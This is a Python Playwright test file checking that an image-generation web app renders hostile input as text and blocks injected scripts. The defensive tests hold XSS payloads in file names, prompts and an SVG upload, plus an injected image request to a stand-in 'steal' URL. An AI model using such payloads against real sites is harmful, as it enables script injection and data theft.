"""Hostile words, names and pictures stay what they are; strangers stay outside."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

pytestmark = pytest.mark.weights

_EVIL = '<img src=x onerror="window.hit=1"><script>window.hit=2</script>${window.hit=3}'
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="window.hit=4">'
    '<script>window.hit=5</script><image href="https://example.org/x.png"/>'
    '<rect width="64" height="64" fill="red"/></svg>'
)


def test_markup_in_prompts_and_names_is_text(
    open_tab: Callable[..., Any], studio_server: Any
) -> None:
    from PIL import Image

    drawn = Image.new("RGB", (32, 32), "red")
    import io

    data = io.BytesIO()
    drawn.save(data, "PNG")
    tab = open_tab("#/create/evil")
    page = tab.page
    page.locator("input[type=file]").set_input_files(
        [
            {
                "name": _EVIL.replace("/", "") + ".png",
                "mimeType": "image/png",
                "buffer": data.getvalue(),
            }
        ]
    )
    page.wait_for_selector(".composer .chip img")
    page.fill("#prompt", f"draw a star {_EVIL}")
    page.keyboard.press("Enter")
    page.wait_for_selector(".asked")
    assert _EVIL in page.locator(".asked p").first.inner_text()
    page.wait_for_selector(
        ".turn:not([data-status=queued]):not([data-status=running])", timeout=150_000
    )
    page.goto(f"{studio_server.url}#/gallery?q={_EVIL}")
    page.wait_for_selector(".tile")
    page.reload()
    page.wait_for_selector(".tile")
    assert page.evaluate("window.hit") is None
    assert page.locator("script:not([src])").count() == 0
    assert page.locator("img[src=x]").count() == 0
    assert tab.hosts == {"127.0.0.1"}
    assert not [problem for problem in tab.problems if "policy" in problem]


def test_an_svg_that_carries_a_script_runs_nothing(
    open_tab: Callable[..., Any], studio_server: Any
) -> None:
    tab = open_tab("#/create/svg")
    page = tab.page
    page.locator("input[type=file]").set_input_files(
        [{"name": "a.svg", "mimeType": "image/svg+xml", "buffer": _SVG.encode()}]
    )
    page.wait_for_timeout(700)
    for asset in studio_server.http.get("/api/assets", params={"origin": "upload"}).json()["items"]:
        if "svg" in asset["media_type"]:
            page.goto(f"{studio_server.url}api/assets/{asset['id']}/content", wait_until="commit")
    assert page.evaluate("window.hit") is None
    assert tab.hosts <= {"127.0.0.1"}


def test_injected_scripts_and_styles_are_stopped_by_the_policy(
    open_tab: Callable[..., Any],
) -> None:
    tab = open_tab()
    page = tab.page
    page.evaluate(
        """() => {
          const script = document.createElement('script');
          script.textContent = 'window.hit = 1';
          document.body.append(script);
          document.body.setAttribute('onclick', 'window.hit = 2');
          document.body.click();
          const outside = new Image();
          outside.src = 'https://example.org/steal?x=1';
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    assert sum("policy: script-src" in problem for problem in tab.problems) >= 2
    assert any("policy: img-src" in problem for problem in tab.problems)


def test_a_server_that_wants_a_key_shows_a_form_and_nothing_else(
    open_tab: Callable[..., Any], studio_server: Any
) -> None:
    page = open_tab(wait=False).page
    refusal = {"error": {"code": "unauthorized", "message": "a key is needed", "hint": ""}}
    page.route("**/api/me", lambda route: route.fulfill(status=401, json=refusal))
    page.route("**/api/login", lambda route: route.fulfill(status=401, json=refusal))
    page.goto(f"{studio_server.url}?again#/gallery")
    page.get_by_label("API key").fill("omk_wrong")
    page.get_by_role("button", name="Enter").click()
    page.wait_for_selector(".problem:has-text('a key is needed')")
    assert page.locator(".frame").count() == 0


def test_a_server_that_went_away_is_said_and_the_draft_is_kept(
    open_tab: Callable[..., Any],
) -> None:
    page = open_tab("#/create/away").page
    page.fill("#prompt", "a long thought")
    page.route("**/api/**", lambda route: route.abort())
    page.keyboard.press("Enter")
    page.wait_for_selector(".toast[data-tone=bad]")
    assert "does not answer" in page.locator(".toast").first.inner_text()
    assert page.input_value("#prompt") == "a long thought"
